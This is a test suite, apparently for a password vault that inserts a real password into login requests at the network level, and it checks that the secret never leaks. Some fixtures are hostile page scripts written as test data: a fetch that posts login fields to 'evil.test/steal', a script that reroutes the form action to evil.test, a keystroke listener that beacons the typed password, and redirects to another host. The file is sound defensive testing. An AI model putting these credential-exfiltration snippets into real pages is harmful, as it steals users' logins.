import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CdpClient } from "../../../src/sign-in/cdp/client";
import {
  type Bench,
  CANARY,
  form,
  formBody,
  hasChromium,
  LOGIN,
  openBench,
  openTab,
  type Ran,
  run,
  type Wanted,
  WELCOME,
} from "./harness";
import { redirectTo, type Site } from "./site";

const FIELDS = `<label>User name <input name="user"></label><label>Password <input name="pass" type="password"></label><button>Log in</button>`;
/** A form that a script sends: `send` is code with the values in `data`. The page goes on when the server has answered. */
const scripted = (send: string) =>
  `${form(FIELDS, "")}<script>
    document.forms[0].addEventListener("submit", async (event) => {
      event.preventDefault();
      const data = Object.fromEntries(new FormData(event.target));
      window.seen = JSON.stringify(data);
      ${send}
      location.href = "/home";
    });
  </script>`;
const JSON_BODY = `JSON.stringify({ data, note: "\\u20ac" })`;

describe.skipIf(!hasChromium())("signIn by wire", () => {
  let site: Site;
  let browser: Bench["browser"];
  let client: CdpClient;
  let close: Bench["close"];
  beforeAll(async () => {
    ({ site, browser, client, close } = await openBench());
    site.show("portal.test/home", WELCOME);
    site.show("portal.test/in", WELCOME);
  });
  afterAll(() => close());
  const show = async (page: string): Promise<string> => {
    site.show("portal.test/login", page);
    site.received.length = 0;
    return openTab(client, site.url("portal.test/login"));
  };
  const on = async (page: string, wanted: Wanted = {}): Promise<Ran> => run(browser.url, await show(page), wanted);
  const sentTo = (path: string) =>
    site
      .posts()
      .filter((request) => request.path === path)
      .map(({ body }) => Buffer.from(body, "latin1").toString());

  describe("leaves the value out", () => {
    it("of a form that hashes in the page, and says that nothing was put in", async () => {
      const hashed = scripted(
        `await fetch("/in", { method: "POST", body: new URLSearchParams({ user: data.user, proof: btoa(data.pass) }) });`,
      );
      const { outcome } = await on(hashed);
      expect(outcome).toMatchObject({ status: "failed", code: "not_substituted" });
      expect(sentTo("/in").join()).not.toContain("c4nary");
    });

    it("of a GET form, before the vault is asked", async () => {
      const { outcome, leases } = await on(form(FIELDS, `method="get" action="/in"`));
      expect([outcome.code, leases, outcome.steps]).toEqual(["not_substituted", [], []]);
    });

    it("of a form without a method that no script takes over", async () => {
      const { outcome } = await on(form(FIELDS, `action="/in"`));
      expect(outcome.code).toBe("not_substituted");
      expect(site.received.some(({ path }) => path.includes("pass="))).toBe(false);
    });

    it("of a request to another host, where the action changes as the form is sent", async () => {
      site.show("evil.test/in", WELCOME);
      const changed = `${LOGIN}<script>
        document.forms[0].addEventListener("submit", (event) => { event.target.action = "${site.url("evil.test/in")}"; });
      </script>`;
      const { outcome } = await on(changed);
      expect(["not_substituted", "action_not_allowed"]).toContain(outcome.code);
      expect(JSON.stringify(site.received)).not.toContain("c4nary");
    });

    it("of a request to another host that a script sends beside the right one", async () => {
      site.show("evil.test/steal", WELCOME);
      const both = scripted(
        `await fetch("${site.url("evil.test/steal")}", { method: "POST", mode: "no-cors", body: JSON.stringify(data) });
         await fetch("/in", { method: "POST", body: JSON.stringify(data) });`,
      );
      const { outcome } = await on(both);
      expect(outcome.status).toBe("authenticated");
      const stolen = site.posts().filter(({ host }) => host === "evil.test");
      expect(stolen).toHaveLength(1);
      expect(JSON.stringify(stolen)).not.toContain("c4nary");
      expect(sentTo("/in").map((body) => JSON.parse(body).pass)).toEqual([CANARY]);
    });

    it("of what a script sends while the field is written", async () => {
      const eager = `${LOGIN}<script>
        document.querySelector("[name=pass]").addEventListener("input", (event) => {
          navigator.sendBeacon("/typed", JSON.stringify({ typed: event.target.value }));
        });
      </script>`;
      const { outcome } = await on(eager);
      expect(outcome.status).toBe("authenticated");
      expect(sentTo("/typed")).toHaveLength(1);
      expect(sentTo("/typed").join()).not.toContain("c4nary");
      expect(sentTo("/in").map(formBody)).toEqual([{ user: "anna", pass: CANARY }]);
    });

    it("of the second of two requests that hold the stand-in", async () => {
      const twice = scripted(
        `await fetch("/in", { method: "POST", body: new URLSearchParams(data) });
         await fetch("/again", { method: "POST", body: new URLSearchParams(data) });`,
      );
      await on(twice);
      expect(sentTo("/in").map((body) => formBody(body).pass)).toEqual([CANARY]);
      expect(sentTo("/again").join()).not.toContain("c4nary");
    });

    it("of a redirect to another host by a host on the list that it was sent on to", async () => {
      site.show("portal.test/in", redirectTo(site.url("login.test/in"), 307));
      site.show("login.test/in", redirectTo(site.url("evil.test/in"), 308));
      const { outcome } = await on(LOGIN, { allowed: ["portal.test", "login.test"] });
      site.show("portal.test/in", WELCOME);
      expect(outcome.code).toBe("redirect_refused");
      expect(site.posts().map(({ host }) => host)).toEqual(["portal.test", "login.test"]);
    });

    it.each([307, 308])("of a redirect by %i to another host", async (status) => {
      site.show("evil.test/in", WELCOME);
      site.show("portal.test/in", redirectTo(site.url("evil.test/in"), status));
      const { outcome } = await on(LOGIN);
      site.show("portal.test/in", WELCOME);
      expect(outcome).toMatchObject({ status: "failed", code: "redirect_refused" });
      expect(site.posts().filter(({ host }) => host === "evil.test")).toEqual([]);
    });
  });

  describe("puts the value into", () => {
    const bodies: readonly (readonly [string, string, (body: string) => unknown])[] = [
      [
        "a urlencoded fetch",
        `await fetch("/in", { method: "POST", body: new URLSearchParams(data) });`,
        (body) => formBody(body).pass,
      ],
      [
        "JSON by fetch",
        `await fetch("/in", { method: "POST", headers: { "content-type": "application/json" }, body: ${JSON_BODY} });`,
        (body) => JSON.parse(body).data.pass,
      ],
      [
        "JSON that says that it is text",
        `await fetch("/in", { method: "POST", body: ${JSON_BODY} });`,
        (body) => JSON.parse(body).data.pass,
      ],
      [
        "JSON within a form",
        `await fetch("/in", { method: "POST", body: new URLSearchParams({ payload: JSON.stringify(data) }) });`,
        (body) => JSON.parse(formBody(body).payload ?? "").pass,
      ],
      [
        "plain text",
        `await fetch("/in", { method: "PUT", body: "pass is " + data.pass });`,
        (body) => body.slice("pass is ".length),
      ],
      [
        "XHR",
        `await new Promise((done) => { const x = new XMLHttpRequest(); x.onload = done; x.open("POST", "/in"); x.setRequestHeader("Content-Type", "application/json;charset=utf-8"); x.send(${JSON_BODY}); });`,
        (body) => JSON.parse(body).data.pass,
      ],
      [
        "multipart",
        `const parts = new FormData(); parts.append("pass", data.pass); parts.append("file", new File(["\\u0000\\u00ff"], "a.bin")); await fetch("/in", { method: "POST", body: parts });`,
        (body) => /name="pass"\r\n\r\n([^\r]*)\r\n/.exec(body)?.[1],
      ],
      [
        "a Blob",
        `await fetch("/in", { method: "POST", body: new Blob([${JSON_BODY}], { type: "application/json" }) });`,
        (body) => JSON.parse(body).data.pass,
      ],
      [
        "a beacon",
        `navigator.sendBeacon("/in", ${JSON_BODY}); await new Promise((done) => setTimeout(done, 500));`,
        (body) => JSON.parse(body).data.pass,
      ],
      [
        "a stream of bytes",
        `await fetch("/in", { method: "POST", body: new TextEncoder().encode(${JSON_BODY}) });`,
        (body) => JSON.parse(body).data.pass,
      ],
    ];
    it.each(bodies)("%s", async (_title, send, read) => {
      const { outcome } = await on(scripted(send));
      expect(outcome).toMatchObject({ status: "authenticated", verdict: "signed_in", mode: "wire" });
      expect(sentTo("/in").map(read)).toEqual([CANARY]);
    });

    it("a multipart form without a script", async () => {
      const { outcome } = await on(form(FIELDS, `method="post" action="/in" enctype="multipart/form-data"`));
      expect(outcome.status).toBe("authenticated");
      expect(/name="pass"\r\n\r\n([^\r]*)\r\n/.exec(sentTo("/in")[0] ?? "")?.[1]).toBe(CANARY);
    });

    it("a request that a 307 sends on to a host on the list", async () => {
      site.show("login.test/in", WELCOME);
      site.show("portal.test/in", redirectTo(site.url("login.test/in"), 307));
      const { outcome } = await on(LOGIN, { allowed: ["portal.test", "login.test"] });
      site.show("portal.test/in", WELCOME);
      expect(outcome.status).toBe("authenticated");
      expect(site.posts().map(({ host, body }) => [host, formBody(body).pass])).toEqual([
        ["portal.test", CANARY],
        ["login.test", CANARY],
      ]);
    });
  });

  it("falls back to fill only where that is allowed, and says so", async () => {
    const hashed = scripted(
      `await fetch("/in", { method: "POST", body: new URLSearchParams({ proof: btoa(unescape(encodeURIComponent(data.pass))) }) });`,
    );
    const stays = hashed.replace(`location.href = "/home";`, "if (data.pass.length > 20) location.href = '/home';");
    const { outcome } = await on(stays, { request: { allowFallback: true } });
    expect(outcome).toMatchObject({ status: "authenticated", mode: "fill" });
    expect(Buffer.from(formBody(sentTo("/in").at(-1)).proof ?? "", "base64").toString()).toBe(CANARY);
  });
});
